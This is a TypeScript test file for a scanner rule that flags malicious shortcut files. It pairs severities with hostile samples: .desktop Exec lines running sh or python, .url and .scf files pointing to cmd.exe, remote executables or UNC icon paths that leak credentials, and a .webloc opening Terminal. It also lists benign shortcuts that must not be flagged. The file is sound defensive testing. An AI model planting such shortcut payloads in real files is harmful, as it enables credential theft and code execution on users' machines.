import { describe, expect, it } from 'vitest';
import { alarms, findingsOf, textFile } from '../testing/findings-of.ts';
import { shortcuts } from './index.ts';

const judge = async (name: string, text: string): Promise<string[]> => alarms(await findingsOf(shortcuts, [textFile(name, text)]));

describe('shortcuts', () => {
  it.each([
    ['a.desktop', '[Desktop Entry]\nExec=sh -c "x"', 'high'],
    ['a.desktop', '[Desktop Entry]\nExec=/usr/bin/env python3 -c "import os"', 'high'],
    ['a.desktop', '[Desktop Entry]\nExec=./.data/run', 'medium'],
    ['a.desktop', '[Desktop Entry]\nType=Link\nURL=smb://203.0.113.9/s', 'high'],
    ['Model card.url', '[InternetShortcut]\r\nURL=file:///C:/Windows/System32/cmd.exe\r\n', 'high'],
    ['a.url', '[InternetShortcut]\r\nURL=file://203.0.113.9/share/setup.exe\r\n', 'high'],
    ['a.url', '[InternetShortcut]\r\nURL=https://host.example\r\nIconFile=\\\\203.0.113.9\\s\\i.ico\r\n', 'high'],
    ['a.url', '[InternetShortcut]\r\nURL=search-ms:query=x&crumb=location:\\\\203.0.113.9\r\n', 'medium'],
    ['a.scf', '[Shell]\r\nIconFile=\\\\203.0.113.9\\s\\i.ico\r\n', 'high'],
    ['a.webloc', '<plist><dict><key>URL</key>\n<string>file:///System/Applications/Utilities/Terminal.app</string></dict></plist>', 'high'],
  ])('report %s: %j', async (name, text, severity) => {
    expect(await judge(name, text)).toEqual([`${severity} ASY-EXE-012`]);
  });

  it.each([
    ['a.url', '[InternetShortcut]\r\nURL=https://huggingface.co/x\r\nIconFile=https://huggingface.co/favicon.ico\r\n'],
    ['a.desktop', '[Desktop Entry]\nExec=netron %F\nTryExec=netron\n'],
    ['a.desktop', '[Desktop Entry]\nExec=/opt/gui/bin/gui --open %u\n'],
    ['desktop.ini', '[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\SHELL32.dll,4\r\n'],
    ['a.webloc', '<plist><dict><key>URL</key>\n<string>https://huggingface.co</string></dict></plist>'],
  ])('leave alone %s: %j', async (name, text) => {
    expect(await judge(name, text)).toEqual([]);
  });
});
